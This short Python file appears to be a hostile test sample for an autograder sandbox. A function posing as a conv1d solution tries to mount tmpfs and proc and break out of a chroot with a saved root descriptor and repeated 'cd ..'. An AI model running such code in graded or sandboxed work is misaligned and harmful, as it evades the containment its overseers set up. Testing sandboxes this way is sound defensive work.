"""Mounts a file system over a folder of its own, changes its root, and walks out again."""

ATTEMPTS = "process: mount and chroot"

import ctypes
import os


libc = ctypes.CDLL(None, use_errno=True)


def conv1d(signal, kernel, stride=1, pad=0):
    said = []
    name = b"autograder-hostile-marker-mount"
    try:
        os.makedirs(name, exist_ok=True)
        for kind in (b"tmpfs", b"proc"):
            failed = libc.mount(b"none", name, kind, 2 | 4 | 8, None)
            said.append(f"mount {kind.decode()}: {failed} {os.strerror(ctypes.get_errno())}")
            if not failed:
                said.append(str(os.listdir(name)))
                libc.umount2(name, 2)
        top = os.open("/", os.O_RDONLY)
        os.chroot(name)
        os.fchdir(top)
        for _ in range(20):
            os.chdir("..")
        said.append(f"escaped to {os.listdir('.')}")
    except OSError as error:
        said.append(str(error))
    return "\n".join(said)
